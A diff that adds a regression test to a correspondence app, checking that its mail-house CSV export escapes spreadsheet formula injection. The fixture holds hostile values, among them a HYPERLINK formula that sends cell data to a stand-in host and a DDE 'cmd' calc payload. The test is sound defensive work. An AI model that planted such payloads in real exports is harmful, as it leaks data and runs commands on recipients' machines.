@@ -49,3 +49,21 @@ def test_one_client_cannot_send_sign_up_confirmations_to_many_addresses(client, 
     codes = [_sign_up(client, chosen.id, f"person{n}@example.org").status_code for n in range(21)]
     assert codes[:20] == [200] * 20
     assert codes[20] == 429
+
+
+def test_the_mail_house_csv_runs_no_formula_a_constituent_typed():
+    """Finding: the printed letters' mail-house CSV wrote names and addresses as typed, so a constituent named
+    =HYPERLINK(...) became a live formula in the mail house's spreadsheet (every other CSV is made safe)."""
+    import csv
+    import io
+
+    from correspondence.models import Constituent, Response
+    from drafting.printing import mail_house_csv
+
+    person = Constituent(first_name="=HYPERLINK(\"http://evil.example/?\"&A1", last_name="x\")",
+                         address1="@SUM(1+1)", address2="+cmd|' /C calc'!A0", city="-2+3", state="OH",
+                         zip5="43215")
+    rows = list(csv.reader(io.StringIO(mail_house_csv([(Response(id=7), person)]))))
+    assert rows[1][1].startswith("'=HYPERLINK")
+    assert rows[1][2:5] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3"]
+    assert rows[1][0] == "7" and rows[1][5:] == ["OH", "43215"]
